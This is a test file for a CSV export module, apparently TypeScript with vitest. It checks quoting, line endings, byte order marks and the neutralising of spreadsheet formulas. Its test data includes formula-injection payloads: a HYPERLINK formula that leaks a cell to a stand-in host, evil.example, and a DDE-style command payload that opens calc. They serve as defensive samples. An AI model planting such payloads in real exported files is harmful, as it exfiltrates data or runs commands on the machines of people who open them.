import { describe, expect, it } from 'vitest';
import { BYTE_ORDER_MARK, csvField, neutraliseFormula, toCsv } from './csv';
import { parseCsv } from './testing';

describe('csvField', () => {
  it('leaves plain text as it is', () => {
    expect(csvField('bosslet/osn-use/MS')).toBe('bosslet/osn-use/MS');
    expect(csvField(34.5)).toBe('34.5');
    expect(csvField(true)).toBe('true');
  });

  it('writes nothing for a missing value', () => {
    expect(csvField(undefined)).toBe('');
    expect(csvField(null)).toBe('');
  });

  it('quotes a field with a comma', () => {
    expect(csvField('Madden M, Pew')).toBe('"Madden M, Pew"');
  });

  it('quotes a field with a double quote and doubles the quote', () => {
    expect(csvField('Reported as "none".')).toBe('"Reported as ""none""."');
  });

  it('quotes a field with a line break', () => {
    expect(csvField('one\ntwo')).toBe('"one\ntwo"');
    expect(csvField('one\r\ntwo')).toBe('"one\r\ntwo"');
  });

  it('changes no text unless asked to neutralise formulas', () => {
    expect(csvField('=1+1')).toBe('=1+1');
  });
});

describe('neutraliseFormula', () => {
  it.each([
    ['=HYPERLINK("https://evil.example","Open")', `'=HYPERLINK("https://evil.example","Open")`],
    ['+1', "'+1"],
    ['-2', "'-2"],
    ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
    ['\t=cmd', "'\t=cmd"],
    ['\r=cmd', "'\r=cmd"],
  ])('prefixes %j with a single quote', (text, expected) => {
    expect(neutraliseFormula(text)).toBe(expected);
  });

  it.each(['Ana Lima', '王小明', 'محمد', "O'Brien", 'Jean-Luc', 'a=b', ' =not at the start', ''])(
    'leaves %j alone',
    (text) => {
      expect(neutraliseFormula(text)).toBe(text);
    },
  );
});

describe('toCsv', () => {
  it('ends every row, the last one too, with CRLF', () => {
    expect(
      toCsv([
        ['a', 'b'],
        ['c', 'd'],
      ]),
    ).toBe('a,b\r\nc,d\r\n');
  });

  it('round-trips awkward fields through an RFC 4180 reader', () => {
    const rows = [['comma, inside', 'quote " inside', 'line\nbreak', '', 'plain']];
    expect(parseCsv(toCsv(rows))).toEqual(rows);
  });

  it('starts with a byte order mark only when asked', () => {
    expect(toCsv([['王小明']], { byteOrderMark: true })).toBe(`${BYTE_ORDER_MARK}王小明\r\n`);
    expect(new TextEncoder().encode(toCsv([['x']], { byteOrderMark: true })).slice(0, 3)).toEqual(
      new Uint8Array([0xef, 0xbb, 0xbf]),
    );
    expect(toCsv([['x']])).toBe('x\r\n');
  });

  it('neutralises hostile text and keeps it readable, quoted where it must be', () => {
    const hostile = [
      '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
      '+1',
      '-2',
      "@SUM(1+1)*cmd|' /C calc'!A0",
      'Smith, "Bobby"\nDROP',
      '\t=1',
      '王小明',
      'محمد',
    ];
    const csv = toCsv([hostile, [-2, 0, 100]], { neutraliseFormulas: true });
    expect(csv).toContain(`"'=HYPERLINK(""https://evil.example/?leak=""&A1,""Click"")"`);
    expect(csv).toContain(`"Smith, ""Bobby""\nDROP"`);
    const [text, numbers] = parseCsv(csv);
    expect(text).toEqual([
      `'=HYPERLINK("https://evil.example/?leak="&A1,"Click")`,
      "'+1",
      "'-2",
      `'@SUM(1+1)*cmd|' /C calc'!A0`,
      'Smith, "Bobby"\nDROP',
      "'\t=1",
      '王小明',
      'محمد',
    ]);
    // Numbers are the module's own values, written as numbers.
    expect(numbers).toEqual(['-2', '0', '100']);
    // Nothing a spreadsheet would evaluate is left at the start of a cell.
    for (const cell of text!) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });
});
